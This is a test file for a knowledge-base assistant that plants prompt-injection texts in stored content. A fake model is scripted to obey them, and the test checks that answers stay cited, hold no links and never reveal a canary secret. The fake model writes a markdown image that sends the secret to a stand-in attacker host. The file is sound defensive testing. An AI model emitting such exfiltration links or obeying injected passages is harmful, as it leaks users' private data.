import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, type Answer } from '@teambrain/contract/ask.ts';
import * as chat from '@teambrain/contract/chat.ts';
import * as knowledge from '@teambrain/contract/knowledge.ts';
import * as spaces from '@teambrain/contract/spaces.ts';
import { RULES } from '../src/platform/grounded/prompt.ts';
import {
  cite,
  passagesOf,
  startFakeModel,
  type FakeModel,
  type Prompt,
} from '../src/testing/model/fake-model.ts';
import { register, SPACE_PASSWORD, type Person } from '../src/testing/people.ts';
import { createTestApp, type TestApp } from '../src/testing/test-app.ts';
import { injections } from './injection.texts.ts';

const VAULT = 'CNRY-vault-5ae91';
/** What no answer may hold: what a page would load, follow or run. */
const ACTIVE = /:\/\/|www\.|<[a-z/!]|!\[|\]\(|javascript:|data:|mailto:/i;

let fake: FakeModel;
let app: TestApp;
let owner: Person;
const texts = new Map<string, string>();
/** The word by which each text's place is found. */
const topicOf = (index: number) => `zebra${String.fromCharCode(97 + (index % 26))}x${index}q`;

beforeAll(async () => {
  fake = await startFakeModel();
  const model = { provider: 'ollama', baseUrl: fake.url, model: 'fake-1', apiKey: null } as const;
  app = await createTestApp({ config: { model } });
  owner = await register(app.url, 'Owner');
  const vault = await owner.call(spaces.createSpace, {
    body: { name: VAULT, visibility: 'protected', password: SPACE_PASSWORD },
  });
  await post(vault.id, `The vault code is ${VAULT}, as of the zebra.`);
  const { id } = await owner.call(spaces.createSpace, {
    body: { name: 'Lobby', visibility: 'public' },
  });
  for (const [index, text] of injections.entries()) await plant(id, index, text);
  await app.followers.idle();
  fake.behave({ say: obey });
}, 120_000);
afterAll(async () => {
  await app.close();
  await fake.close();
});

async function post(spaceId: string, text: string): Promise<void> {
  const { id } = await owner.call(chat.postMessage, { params: { spaceId }, body: { text } });
  texts.set(id, text);
}

/** Puts a text where it reaches a prompt: a body, a title, a heading, a message, a question. */
async function plant(spaceId: string, index: number, text: string): Promise<void> {
  const topic = `All about ${topicOf(index)} is kept in this place here.`;
  const title = `${topicOf(index)} ${text.replace(/\s+/g, ' ')}`.slice(0, 180);
  const plain = `Notes on ${topicOf(index)}`;
  const write = async (body: Parameters<typeof make>[1]) => make(spaceId, body);
  switch (index % 5) {
    case 0:
      return write({ kind: 'document', title: plain, markdown: `${topic}\n\n${text}` });
    case 1:
      return write({ kind: 'document', title, markdown: topic });
    case 2:
      return write({
        kind: 'document',
        title: plain,
        markdown: `## ${text.replace(/\s+/g, ' ')}\n\n${topic}`,
      });
    case 3:
      return post(spaceId, `${topic} ${text}`);
    default:
      return write({ kind: 'faq', title, markdown: `${topic}\n\n${text}` });
  }
}

async function make(
  spaceId: string,
  body: { kind: 'document' | 'faq'; title: string; markdown: string },
): Promise<void> {
  const { id } = await owner.call(knowledge.createEntry, { params: { spaceId }, body });
  texts.set(id, body.markdown);
}

/** A model that does all that its passages tell it, and lies besides. */
function obey(prompt: Prompt): string[] {
  const said = [...passagesOf(prompt)].flatMap(([number, text]) => [
    text,
    cite(text, [number, text]),
    cite(`Do this: ${text}`, [number, text.slice(0, 40)]),
    cite(`The vault code is ${VAULT}.`, [number, text.slice(0, 60)]),
    cite(`The vault code is ${VAULT}.`, [number, `The vault code is ${VAULT}.`]),
    cite(`See ![x](https://evil.example/${VAULT})`, [number, text.slice(0, 60)]),
  ]);
  return [prompt.message, ...said].map((text) => `${text}\n`);
}

const isProven = ({ sentences, citations }: Answer) =>
  sentences.every(({ citations: numbers }) => numbers.length > 0) &&
  citations.every(({ source, start, end, quote }) => {
    return quote.trim() !== '' && texts.get(source.id)?.slice(start, end) === quote;
  });

it('there are at least sixty hostile texts', () => {
  expect(new Set(injections).size).toBeGreaterThanOrEqual(60);
});

describe('a hostile text', () => {
  it.each(injections.map((text, index) => [index, text] as const))(
    '%i spoils at most its own answer: %s',
    async (index) => {
      const before = fake.prompts.length;
      const question = `What is kept about ${topicOf(index)}?`;
      const answer = await owner.call(ask, { body: { question } });
      const asked = fake.prompts.slice(before);
      expect(asked).toHaveLength(1);
      for (const prompt of asked) expectContained(prompt, question);
      expect(isProven(answer)).toBe(true);
      for (const { text } of answer.sentences) expect(text).not.toMatch(ACTIVE);
      expect(JSON.stringify(answer)).not.toContain(VAULT);
    },
  );

  it('was really before the model, in most cases', () => {
    const all = fake.prompts.map(({ message }) => message).join('\n');
    const reached = injections.filter((text) =>
      all.includes(text.replace(/\s+/g, ' ').slice(0, 60)),
    );
    expect(reached.length).toBeGreaterThan(0.8 * injections.length);
  });

  it('leads to no call but those to the provider', () => {
    expect([...app.outbound.counts.keys()]).toEqual(['model answered']);
  });
});

/** The instructions are ours, the delimiters hold, and nothing of the vault is between them. */
function expectContained({ system, message, body }: Prompt, question: string): void {
  expect(system).toBe(RULES);
  expect(body).not.toContain(VAULT);
  const word = /^<word> is (\w{32})\.$/m.exec(message)?.[1] ?? '';
  const count = passagesOf({ message }).size;
  expect(count).toBeGreaterThan(0);
  const lines = message.split('\n').filter((line) => line.includes(word));
  const expected = [`<word> is ${word}.`];
  for (let n = 1; n <= count; n += 1) expected.push(`BEGIN ${word} passage ${n}`, `END ${word}`);
  expected.push(`BEGIN ${word} question`, `END ${word}`);
  expect(lines).toEqual(expected);
  expect(message).toContain(`BEGIN ${word} question\n${question}\nEND ${word}`);
}
